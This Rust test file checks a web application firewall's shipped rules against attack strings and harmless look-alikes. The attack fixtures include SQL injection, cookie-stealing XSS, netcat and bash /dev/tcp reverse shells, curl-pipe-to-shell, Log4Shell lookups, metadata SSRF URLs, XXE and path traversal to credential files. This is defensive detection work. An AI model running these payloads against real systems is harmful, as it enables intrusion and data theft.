//! Each rule family against attacks and look-alike benign values written for this test
//! (independent of the CRS corpus), through the shipped rule files.

#[path = "support/rules_dir.rs"]
mod rules_dir;

use http::{HeaderMap, HeaderName, HeaderValue, Method};
use rampart_plugins::plugins::owasp::Waf;
use rampart_plugins::RequestView;
use rules_dir::{outside_request, RulesDir};

fn wafs() -> [Waf; 2] {
    RulesDir::shipped().wafs("")
}

fn request<'a>(
    method: &'a Method,
    path: &'a str,
    headers: &'a HeaderMap,
    body: Option<&'a [u8]>,
) -> RequestView<'a> {
    outside_request("app", method, path, None, headers, body)
}

fn header_map(pairs: &[(&'static str, &'static str)]) -> HeaderMap {
    let mut headers = HeaderMap::new();
    for (k, v) in pairs {
        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
    }
    headers
}

/// The labels of the rules that refuse a form POST whose `q` field is `value`.
fn refused_by(wafs: &[Waf], value: &str) -> Vec<String> {
    let headers = header_map(&[
        ("host", "shop.example.com"),
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("content-type", "application/x-www-form-urlencoded"),
    ]);
    let body = format!(
        "q={}",
        value
            .replace('%', "%25")
            .replace('&', "%26")
            .replace('+', "%2B")
            .replace('=', "%3D")
    );
    let view = request(&Method::POST, "/search", &headers, Some(body.as_bytes()));
    wafs.iter()
        .flat_map(|w| {
            let a = w.assess(&view);
            if a.score >= 5 {
                a.matches
                    .iter()
                    .map(|(m, _)| w.rules().rules[m.rule].label(m.source))
                    .collect()
            } else {
                Vec::new()
            }
        })
        .collect()
}

fn check(family: &str, attacks: &[&str], benign: &[&str]) {
    let wafs = wafs();
    for a in attacks {
        let by = refused_by(&wafs, a);
        assert!(!by.is_empty(), "{family}: attack passed: {a:?}");
    }
    for b in benign {
        let by = refused_by(&wafs, b);
        assert!(
            by.is_empty(),
            "{family}: benign value refused by {by:?}: {b:?}"
        );
    }
}

#[test]
fn sql_injection() {
    check(
        "sqli",
        &[
            "x' OR 'a'='a",
            "1 UNION ALL SELECT username, password FROM accounts",
            "1; DROP TABLE invoices",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 AND SLEEP(5)",
            "admin'-- ",
            "{\"$where\": \"1\"}",
        ],
        &[
            "O'Reilly Media",
            "select a size from the list",
            "Union Station, Chicago",
            "drop-down menu",
            "1=1 is true in maths",
        ],
    );
}

#[test]
fn cross_site_scripting() {
    check(
        "xss",
        &[
            "<script>fetch('//x.example/'+document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=confirm(1)>",
            "javascript:alert(1)",
            "<iframe src=\"//evil.example\">",
        ],
        &[
            "x < y and y > z",
            "Tom & Jerry",
            "rock 'n' roll",
            "price >= 10 EUR",
            "email me at a@b.example",
        ],
    );
}

#[test]
fn command_injection() {
    check(
        "rce",
        &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 203.0.113.9 4444",
            "$(curl http://x.example/s.sh|sh)",
            "`id`",
            "& powershell -enc SQBFAFgA",
            "c\"a\"t /etc/shadow",
        ],
        &[
            "cats and dogs",
            "The ls command lists files",
            "time flies",
            "sort by price",
            "ping pong tournament",
        ],
    );
}

#[test]
fn path_traversal_and_files() {
    check(
        "lfi",
        &[
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/proc/self/environ",
            "....//....//etc/shadow",
            "~/.ssh/id_rsa",
        ],
        &[
            "see page 1..2",
            "passwords must be 12 characters",
            "C:\\Users\\Public\\report.docx",
            "/products/shoes/running",
        ],
    );
}

#[test]
fn remote_file_inclusion_and_ssrf() {
    check(
        "rfi-ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/",
            "http://127.0.0.1:8080/admin",
            "https://198.51.100.7/shell.txt",
        ],
        &[
            "https://www.example.com/products?id=7",
            "see docs.example.org for details",
            "version 169.254 of the spec",
        ],
    );
}

#[test]
fn php_injection() {
    check(
        "php",
        &[
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "base64_decode('ZXZhbA==')",
            "${system('id')}",
        ],
        &[
            "PHP developer wanted",
            "I paid $5 for this",
            "the system is down",
        ],
    );
}

#[test]
fn java_and_log4shell() {
    check(
        "java",
        &[
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:rmi://x.example/a}",
            "java.lang.Runtime",
            "class.module.classLoader.URLs[0]=0",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        ],
        &[
            "I love Java and coffee",
            "runtime error on line 3",
            "process builder pattern",
        ],
    );
}

#[test]
fn template_and_prototype_pollution() {
    check(
        "generic",
        &[
            "{{7*7}}",
            "{{''.__class__.__mro__}}",
            "__proto__[admin]=true",
            "constructor.prototype.isAdmin",
            "#{T(java.lang.Runtime).getRuntime()}",
        ],
        &[
            "{{ name }} is a placeholder",
            "prototype review on Monday",
            "hash #1 tag",
        ],
    );
}

/// The labels of every rule a GET whose `name` header is `value` matches, and its score.
fn header_verdict(waf: &Waf, name: &'static str, value: &str) -> (Vec<String>, u32) {
    let mut headers = HeaderMap::new();
    headers.insert("host", HeaderValue::from_static("api.example.com"));
    headers.insert("user-agent", HeaderValue::from_static("curl/8.5.0"));
    headers.insert(
        HeaderName::from_static(name),
        HeaderValue::from_str(value).unwrap_or_else(|e| panic!("{e}")),
    );
    let view = request(&Method::GET, "/v1/models", &headers, None);
    let a = waf.assess(&view);
    let labels = a
        .matches
        .iter()
        .map(|(m, _)| {
            format!(
                "{}@{}",
                waf.rules().rules[m.rule].label(m.source),
                m.excerpt
            )
        })
        .collect();
    (labels, a.score)
}

/// Headers recur from request to request, and each WAF remembers what its rules found in
/// them: asked again, in any order, it must answer exactly as the first time.
#[test]
fn recurring_headers_get_the_same_verdict_every_time() {
    let cases: &[(&'static str, &str, bool)] = &[
        ("user-agent", "${jndi:ldap://198.51.100.9/a}", true),
        ("user-agent", "() { :; }; /bin/bash -c 'id'", true),
        (
            "x-api-version",
            "${${lower:j}ndi:rmi://198.51.100.9/a}",
            true,
        ),
        (
            "referer",
            "http://shop.example.com/?q=<script>alert(1)</script>",
            true,
        ),
        ("user-agent", "OpenAI/Python 1.54.0", false),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
            false,
        ),
        ("referer", "https://shop.example.com/cart?item=42", false),
    ];
    for waf in wafs() {
        let first: Vec<_> = cases
            .iter()
            .map(|(h, v, _)| header_verdict(&waf, h, v))
            .collect();
        for round in 0..3 {
            for (i, (h, v, _)) in cases.iter().enumerate().rev() {
                assert_eq!(
                    header_verdict(&waf, h, v),
                    first[i],
                    "round {round}: {h}: {v}"
                );
            }
        }
    }
    let [owasp, bad_inputs] = wafs();
    for (h, v, attack) in cases {
        let score = header_verdict(&owasp, h, v).1 + header_verdict(&bad_inputs, h, v).1;
        assert_eq!(score >= 5, *attack, "{h}: {v}: score {score}");
    }
}

/// The Content-Type allow-list reads media types as HTTP defines them: ASCII tokens.
#[test]
fn content_types_outside_the_allow_list_are_refused() {
    let [owasp, _] = wafs();
    for allowed in [
        "application/json",
        "application/json; charset=utf-8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
        "application/vnd.api+json",
        "text/event-stream",
    ] {
        let (labels, score) = header_verdict(&owasp, "content-type", allowed);
        assert_eq!(score, 0, "{allowed}: {labels:?}");
    }
    for refused in [
        "application/x-evil",
        "text/html; charset=utf-7",
        "application/vnd.例+json",
        "application/json; charset=utf-8; x=<script>",
    ] {
        let (labels, score) = header_verdict(&owasp, "content-type", refused);
        assert!(score >= 5, "{refused}: {labels:?}");
    }
}

/// English that uses command, SQL and language words the way people write them (at the
/// start, after `;`, before a colon, on lines of their own) against the attacks that share
/// those words. Found by `examples/detection.rs` on its own corpora of support questions.
#[test]
fn english_with_command_words_is_not_a_command_line() {
    check(
        "command words in prose",
        &[
            "x; id",
            "x;whoami;",
            "1;sleep 5",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "bash x.sh",
            "time; ansible all -m ping",
            "cscli alerts list",
            "javascript:alert(1)",
            "javascript: alert(document.cookie)",
            "JaVaScRiPt:void(0)",
            "a\r\nSet-Cookie: session=1",
            "a\nLocation: http://evil.example/",
            "1; DROP TABLE users",
            "1; delete from users where 1=1",
            "1; exec master..xp_cmdshell 'dir'",
        ],
        &[
            "Bash, how do loops work?",
            "Bash; the items in my cart.",
            "Cut; the report before Friday",
            "Export; the difference between union and join; Source; why the page loads slowly",
            "Kill; my order from last week; PHP; me a summary of the meeting!",
            "JavaScript: how do closures work?",
            "JavaScript: the best way to learn it",
            "Date: my order from last week\nJava: the best way to learn it",
            "Delete: the cheapest flights to Lisbon\nJoin: how closures work - thanks!",
            "Select; Delete; Drop; the old invoices",
            "Cut, the cheapest flights to Lisbon; Delete; a new password for my account!",
        ],
    );
}

/// Traversal in the spellings lenient decoders accept: over-long UTF-8, `%u` slashes,
/// dots left over after a filter strips `../`, Tomcat's `..;/`, `0x2e` text.
#[test]
fn traversal_in_every_spelling_a_server_decodes() {
    check(
        "traversal spellings",
        &[
            "%c0%ae%c0%ae%c0%afetc/passwd",
            "%e0%80%ae%e0%80%ae%e0%80%afWEB-INF/web.xml",
            "%252e%252e%c1%9c%252e%252e%c1%9cboot.ini",
            "..%u2215..%u2215etc/hosts",
            "....//....//WEB-INF/web.xml",
            "....\\....\\windows\\win.ini",
            "/..;/..;/WEB-INF/web.xml",
            "static/0x2e0x2e\\0x2e0x2e\\app.config",
        ],
        &[
            "Wait... what happened to my order?",
            "Versions 1.2..1.4 are affected",
            "see the docs at /docs/getting-started/",
            "and/or ... the rest",
        ],
    );
}

/// Server-side include directives, which a server with SSI on runs or expands, against HTML
/// comments and editor folding markers.
#[test]
fn server_side_includes() {
    check(
        "ssi",
        &[
            "<!--#exec cmd=\"id\"-->",
            "<!-- #include virtual=\"/etc/passwd\" -->",
            "x<!--#echo var=\"DOCUMENT_ROOT\"-->",
            "<!--#printenv -->",
        ],
        &[
            "<!-- a comment about #exec -->",
            "<!-- #region navigation -->",
            "use #include <stdio.h> in C",
        ],
    );
}

/// Protocol checks of the request's framing: byte ranges, a doubled Content-Type, control
/// characters (paranoia 2, as CRS has them).
#[test]
fn range_doubled_content_type_and_control_characters() {
    let [owasp, _] = wafs();
    for (range, refused) in [
        ("bytes=0-499", false),
        ("bytes=0-0, -1", false),
        ("bytes=500-", false),
        ("items=0-5", false),
        ("bytes=0-1,2-3,4-5,6-7,8-9", false),
        ("bytes=0-1,2-3,4-5,6-7,8-9,10-11", true),
        ("bytes=0-,0-,0-,0-,0-,0-,0-,0-", true),
        ("bytes=0-1-2", true),
        ("bytes=x-y", true),
        ("bytes=", true),
    ] {
        let (labels, score) = header_verdict(&owasp, "range", range);
        assert_eq!(score >= 5, refused, "{range}: {labels:?}");
    }

    let mut headers = header_map(&[
        ("host", "api.example.com"),
        ("user-agent", "curl/8.5.0"),
        ("content-type", "application/json"),
    ]);
    let body = br#"{"a": 1}"#;
    let single = request(&Method::POST, "/v1/items", &headers, Some(body));
    assert_eq!(owasp.assess(&single).score, 0);
    headers.append("content-type", HeaderValue::from_static("text/plain"));
    let doubled = request(&Method::POST, "/v1/items", &headers, Some(body));
    let a = owasp.assess(&doubled);
    assert!(a.score >= 5, "two Content-Types pass");

    let strict = RulesDir::shipped().wafs("paranoia = 2");
    let mut headers = HeaderMap::new();
    headers.insert("host", HeaderValue::from_static("api.example.com"));
    headers.insert("user-agent", HeaderValue::from_static("curl/8.5.0"));
    for (query, pl2_refuses) in [("q=top%1b%5b2J", true), ("q=line%0Aline%09tab", false)] {
        let view = RequestView {
            query: Some(query),
            ..request(&Method::GET, "/search", &headers, None)
        };
        let labels: Vec<String> = strict[0]
            .assess(&view)
            .matches
            .iter()
            .map(|(m, _)| strict[0].rules().rules[m.rule].id.clone())
            .collect();
        assert_eq!(
            labels.contains(&"protocol-control-character".to_string()),
            pl2_refuses,
            "{query}: {labels:?}"
        );
        assert!(
            !wafs()[0]
                .assess(&view)
                .matches
                .iter()
                .any(|(m, _)| owasp.rules().rules[m.rule].id == "protocol-control-character"),
            "paranoia 1 leaves control characters to paranoia 2"
        );
    }
}

/// The back-end languages' detectors through the shipped rules, where their attacks travel:
/// NoSQL operators as query-string names and JSON keys, GraphQL in a JSON body's `query`,
/// XXE in an XML body, base64 in a parameter.
#[test]
fn backend_languages_where_they_travel() {
    let [owasp, _] = wafs();
    let verdict = |query: Option<&str>, content_type: &'static str, body: Option<&[u8]>| {
        let mut headers = HeaderMap::new();
        headers.insert("host", HeaderValue::from_static("api.example.com"));
        headers.insert("user-agent", HeaderValue::from_static("curl/8.5.0"));
        headers.insert("content-type", HeaderValue::from_static(content_type));
        let method = if body.is_some() {
            Method::POST
        } else {
            Method::GET
        };
        let view = RequestView {
            query,
            ..request(&method, "/api", &headers, body)
        };
        let a = owasp.assess(&view);
        let ids: Vec<String> = a
            .matches
            .iter()
            .map(|(m, _)| owasp.rules().rules[m.rule].id.clone())
            .collect();
        (a.score, ids)
    };
    let json = "application/json";
    for (query, body, rule) in [
        (
            Some("user=admin&password[$ne]=x"),
            None,
            "nosql-operator-injection",
        ),
        (
            None,
            Some(r#"{"user": "admin", "password": {"$gt": ""}}"#),
            "nosql-operator-injection",
        ),
        (
            None,
            Some(r#"{"query": "{ __schema { types { name } } }"}"#),
            "graphql-abuse",
        ),
        (
            Some("d=O2NhdCAvZXRjL3Bhc3N3ZA=="),
            None,
            "rce-command-syntax",
        ),
    ] {
        let (score, ids) = verdict(query, json, body.map(str::as_bytes));
        assert!(
            score >= 5 && ids.iter().any(|i| i == rule),
            "{query:?} {body:?}: {ids:?}"
        );
    }
    let xxe =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let (score, ids) = verdict(None, "application/xml", Some(xxe));
    assert!(
        score >= 5 && ids.iter().any(|i| i == "xml-external-entity"),
        "{ids:?}"
    );
    for (query, body) in [
        (Some("sort[price]=asc&page=2"), None),
        (
            None,
            Some(r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/defs/a"}"##),
        ),
        (
            None,
            Some(r#"{"query": "{ user(id: 1) { name __typename } }"}"#),
        ),
        (Some("token=550e8400-e29b-41d4-a716-446655440000"), None),
    ] {
        let (score, ids) = verdict(query, json, body.map(str::as_bytes));
        assert_eq!(score, 0, "{query:?} {body:?}: {ids:?}");
    }
}

/// `rampart rules test` shows why a detector counted a value and how it read it.
#[test]
fn a_detector_match_is_explained_with_its_reading() {
    use rampart_plugins::Plugin;
    let [owasp, _] = wafs();
    let headers = header_map(&[("host", "shop.example.com"), ("user-agent", "Mozilla/5.0")]);
    let view = RequestView {
        query: Some("q=x%3Bcat%24%7BIFS%7D/etc/passwd"),
        ..request(&Method::GET, "/search", &headers, None)
    };
    let lines = owasp.explain(&view).join("\n");
    assert!(
        lines.contains("rce-command-syntax")
            && lines.contains(
                "detector: a command with command-line arguments after a separator; \
                 read as: word(cat) word(/etc/passwd)"
            ),
        "{lines}"
    );
}

/// A rule that a route switches off for the URLs in prose (server-side request forgery on
/// an LLM route) still judges the request's other fields: its hit on a prompt's URL, which
/// counts for nothing, does not stand for the rule's hit on a field it does judge.
#[test]
fn a_rule_off_for_prose_urls_still_judges_the_other_fields() {
    let wafs = RulesDir::shipped().wafs("routes = { chat = \"llm\" }");
    let headers = header_map(&[
        ("host", "api.example.com"),
        ("user-agent", "OpenAI/Python 1.99.1"),
        ("content-type", "application/json"),
    ]);
    let refused = |body: &str| {
        let view = outside_request(
            "chat",
            &Method::POST,
            "/v1/chat/completions",
            None,
            &headers,
            Some(body.as_bytes()),
        );
        wafs.iter().any(|w| w.assess(&view).score >= 5)
    };
    let forged = r#""webhook":"metadata.google.internal""#;
    let prompt = r#""messages":[{"role":"user","content":"my app listens on http://127.0.0.1:8080/ and http://metadata.google.internal/ is the metadata service"}]"#;
    assert!(
        !refused(&format!("{{{prompt}}}")),
        "a prompt's URLs are not fetched: not a forgery"
    );
    assert!(refused(&format!("{{{forged}}}")), "the forgery on its own");
    assert!(
        refused(&format!("{{{prompt},{forged}}}")),
        "a prompt's URL first hid the forgery after it"
    );
}
